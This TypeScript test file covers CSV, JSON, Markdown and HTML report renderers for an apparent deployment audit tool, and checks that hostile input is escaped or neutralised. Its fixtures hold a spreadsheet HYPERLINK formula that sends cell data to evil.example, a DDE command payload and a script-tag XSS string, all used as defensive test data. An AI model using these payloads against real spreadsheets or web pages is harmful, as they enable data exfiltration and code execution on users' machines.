import { describe, expect, it } from 'vitest';
import {
  computeAuditReport, csvCell, escapeHtml, escapeMarkdown, formatDuration, formatPercent, quoteCsvField, renderCsv, renderHtml, renderJson, renderMarkdown,
} from '../../../src/reports/index.ts';
import { change, input, iv, phase, reach } from '../../fixtures/reports/histories.ts';

const CSV_HEADER = [
  'id', 'cluster', 'namespace', 'name', 'source', 'observed_ms', 'unreachable_ms', 'unobserved_ms', 'availability_percent',
  'current_ms', 'inprogress_ms', 'failed_ms', 'terminating_ms', 'notfound_ms', 'unknown_ms', 'failures', 'failed_at_start',
  'incidents', 'recovered', 'mean_time_to_recover_ms', 'longest_time_to_recover_ms', 'open_incident_since', 'status_changes',
  'max_changes_in_an_hour', 'flapping', 'manifest_changes', 'status_at_end',
].join(',');

describe('renderCsv', () => {
  it('writes a header and one RFC 4180 row per phase, quoting a name with a comma and a quote', () => {
    const report = computeAuditReport(input([
      phase('p1', [iv('Current', 0, 24)], { name: 'web, "edge"' }),
      phase('p2', [iv('Current', 0, 10), iv('Failed', 10, 16), iv('Current', 16, 18), iv('InProgress', 18, null)], { name: 'api\nv2' }),
      phase('p3', []),
    ]));
    expect(renderCsv(report)).toBe(
      `${CSV_HEADER}\r\n` +
      'p1,prod,shop,"web, ""edge""",cli-utils,86400000,0,0,100,86400000,0,0,0,0,0,0,false,0,0,,,,0,0,false,0,Current\r\n' +
      'p2,prod,shop,"api\nv2",cli-utils,86400000,0,0,50,43200000,21600000,21600000,0,0,0,1,false,2,1,21600000,21600000,2026-10-01T18:00:00.000Z,3,1,false,0,InProgress\r\n' +
      'p3,prod,shop,p3,cli-utils,0,0,86400000,,0,0,0,0,0,0,0,false,0,0,,,,0,0,false,0,\r\n',
    );
  });

  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\r\nbreak', '"line\r\nbreak"'],
    ['', ''],
  ])('quotes %j as %j', (value, quoted) => {
    expect(quoteCsvField(value)).toBe(quoted);
  });
});

describe('renderCsv against formula injection (OWASP CSV injection)', () => {
  it('writes hostile cluster, namespace, name and source cells as text a spreadsheet does not run', () => {
    const report = computeAuditReport(input([
      phase('p1', [iv('Current', 0, 24)], { cluster: '=HYPERLINK("http://evil.example/?"&A1,"click")', namespace: '+cmd|\' /C calc\'!A0', name: '-2+3', source: '@SUM(A1:A9)' }),
      phase('p2', [iv('Current', 0, 24)], { cluster: '\t=1+1', namespace: '\r=1+1', name: '-5', source: 'cli-utils' }),
    ]));
    const rows = renderCsv(report).split('\r\n');
    expect(rows[1]).toBe('p1,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",\'+cmd|\' /C calc\'!A0,\'-2+3,\'@SUM(A1:A9),86400000,0,0,100,86400000,0,0,0,0,0,0,false,0,0,,,,0,0,false,0,Current');
    // A carriage return is also a line break: the neutralised cell is quoted as RFC 4180 asks.
    expect(rows[2]).toBe('p2,\'\t=1+1,"\'\r=1+1",\'-5,cli-utils,86400000,0,0,100,86400000,0,0,0,0,0,0,false,0,0,,,,0,0,false,0,Current');
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@A1', "'@A1"],
    ['\tx', "'\tx"],
    ['a=1', 'a=1'],
    ['', ''],
  ])('neutralises the text cell %j as %j', (text, written) => {
    expect(csvCell(text)).toBe(written);
  });

  it.each([
    [-5, '-5'],
    [-0.25, '-0.25'],
    [42, '42'],
    [false, 'false'],
    [null, ''],
  ])('keeps the computed figure %j as the number %j', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });
});

describe('renderJson', () => {
  it('writes RFC 3339 UTC times, milliseconds and nulls', () => {
    const report = computeAuditReport(input([phase('web', [iv('Current', 0, 12), iv('Failed', 12, null)], { manifestChanges: [change(1, ['a'])] }), phase('empty', [])]));
    const json: unknown = JSON.parse(renderJson(report));
    expect(json).toMatchObject({
      range: { from: '2026-10-01T00:00:00.000Z', to: '2026-10-02T00:00:00.000Z', durationMs: 86_400_000 },
      phases: [
        {
          id: 'web', availability: 50, failureTimes: ['2026-10-01T12:00:00.000Z'],
          recovery: { openIncident: { since: '2026-10-01T12:00:00.000Z', ongoingMs: 43_200_000 }, meanTimeToRecoverMs: null },
          manifestChanges: [{ at: '2026-10-01T01:00:00.000Z', added: ['a'], removed: [], revisionsChanged: [] }],
        },
        { id: 'empty', availability: null, observedMs: 0 },
      ],
      totals: { availability: 50, failures: 1 },
    });
  });
});

describe('renderMarkdown', () => {
  it('writes tables and escapes table-breaking user data', () => {
    const report = computeAuditReport(input(
      [phase('web', [iv('Current', 0, 10), iv('Failed', 10, 16), iv('Current', 16, 24)], { name: 'a|b <i>', manifestChanges: [change(3, ['apps/Deployment/shop/web'])] })],
      [{ name: 'prod', reachability: [reach(true, 0, null)] }],
    ));
    const markdown = renderMarkdown(report);
    expect(markdown).toContain('| Phase | Source | Availability |');
    expect(markdown).toContain('| prod/shop/a\\|b \\<i\\> | cli-utils | 75.000% | 1d 0h 0m | 0ms | 0ms | 1 | no | 1 | 6h 0m | 6h 0m |  | 2 | no |');
    expect(markdown).toContain('| prod/shop/a\\|b \\<i\\> | 2026-10-01T10:00:00.000Z | 2026-10-01T16:00:00.000Z | 6h 0m | yes |');
    expect(markdown).toContain('| prod | 100.000% | 1d 0h 0m | 0ms | 0ms | 0 | 0ms |  |');
  });

  it.each([
    ['web|api', 'web\\|api'],
    ['two\nlines', 'two lines'],
    ['<b>*x*</b>', '\\<b\\>\\*x\\*\\</b\\>'],
  ])('escapes %j as %j', (text, escaped) => {
    expect(escapeMarkdown(text)).toBe(escaped);
  });
});

describe('renderHtml', () => {
  const history = input(
    [
      phase('p1', [iv('Current', -2, 10), iv('Failed', 10, 16), iv('Current', 16, 24)], { name: '<script>alert("x")</script>' }),
      phase('p2', [iv('InProgress', 2, 6), iv('Current', 6, 12, true), iv('Current', 12, null)], { name: 'api & co' }),
      phase('p3', []),
    ],
    [{ name: 'prod', reachability: [reach(true, 0, 6), reach(false, 6, 12), reach(true, 12, null)] }],
  );
  const html = renderHtml(computeAuditReport(history), history);
  const svgs = html.split('<svg').slice(1).map((part) => part.split('</svg>')[0] ?? '');

  it('escapes user data: no script element survives a phase name', () => {
    expect(html).not.toContain('<script');
    expect(html).toContain('prod/shop/&#60;script&#62;alert(&#34;x&#34;)&#60;/script&#62;');
    expect(html).toContain('prod/shop/api &#38; co');
  });

  it('is self-contained: inline style, no script, no external URL', () => {
    expect(html.startsWith('<!DOCTYPE html>')).toBe(true);
    expect(html).toContain('<style>');
    expect(html).not.toMatch(/https?:|<link|@import|@font-face|src=/i);
  });

  it('draws one SVG per phase with one segment per interval in the range', () => {
    expect(svgs.map((svg) => svg.match(/class="seg"/g)?.length ?? 0)).toEqual([3, 3, 0]);
  });

  it('gives each segment a tooltip with status, from and to, and its colour', () => {
    expect(svgs[0]).toContain(
      '<g class="seg" data-status="Failed"><title>Failed, from 2026-10-01T10:00:00.000Z to 2026-10-01T16:00:00.000Z</title><rect x="416.67" y="0" width="250" height="28" fill="#c62828"/>',
    );
    expect(svgs[0]).toContain('<title>Current, from 2026-10-01T00:00:00.000Z to 2026-10-01T10:00:00.000Z</title>');
  });

  it('hatches stale segments and the cluster\'s unreachable period', () => {
    expect(svgs[1]).toContain(
      '<title>Current, from 2026-10-01T06:00:00.000Z to 2026-10-01T12:00:00.000Z (stale: cluster not readable, last known status)</title><rect x="250" y="0" width="250" height="28" fill="#2e7d32"/><rect x="250" y="0" width="250" height="28" fill="url(#hatch-1)"/>',
    );
    expect(svgs[1]).toContain('<rect class="unreachable" x="250" y="0" width="250" height="28" fill="url(#hatch-1)"><title>cluster unreachable, from 2026-10-01T06:00:00.000Z to 2026-10-01T12:00:00.000Z</title></rect>');
  });

  it('names each status in words beside its colour swatch', () => {
    // p1 is in prod, unreachable 06:00-12:00: 4 h of its Current and 2 h of its Failed time are counted apart.
    expect(html).toContain('<ul class="legend"><li><span class="swatch" style="background:#2e7d32"></span>Current 14h 0m</li><li><span class="swatch" style="background:#c62828"></span>Failed 4h 0m</li><li><span class="swatch hatched"></span>Unreachable (hatched) 6h 0m</li></ul>');
    expect(svgs[0]).toContain('>Failed</text>');
  });
});

describe('formatting', () => {
  it.each([
    [0, '0ms'], [450, '450ms'], [42_000, '42s'], [3_900_000, '1h 5m'], [183_607_000, '2d 3h 0m 7s'], [null, 'n/a'],
  ])('formatDuration(%j) is %j', (ms, text) => {
    expect(formatDuration(ms)).toBe(text);
  });

  it.each([[null, 'n/a'], [75, '75.000%'], [100 * (20 / 24), '83.333%']])('formatPercent(%j) is %j', (value, text) => {
    expect(formatPercent(value)).toBe(text);
  });

  it('escapeHtml covers all five special characters', () => {
    expect(escapeHtml(`<a href="x">'&'</a>`)).toBe('&#60;a href=&#34;x&#34;&#62;&#39;&#38;&#39;&#60;/a&#62;');
  });
});
